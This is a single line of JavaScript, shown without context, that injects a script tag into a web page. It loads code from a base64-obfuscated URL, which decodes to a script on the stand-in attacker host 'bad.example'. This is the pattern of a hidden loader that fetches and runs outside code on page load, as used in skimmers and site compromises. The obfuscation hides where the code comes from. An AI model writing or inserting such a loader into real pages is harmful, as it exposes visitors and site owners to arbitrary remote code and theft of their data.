var s = document.createElement("script"); s.src = atob("aHR0cHM6Ly9iYWQuZXhhbXBsZS94Lmpz"); document.head.appendChild(s);
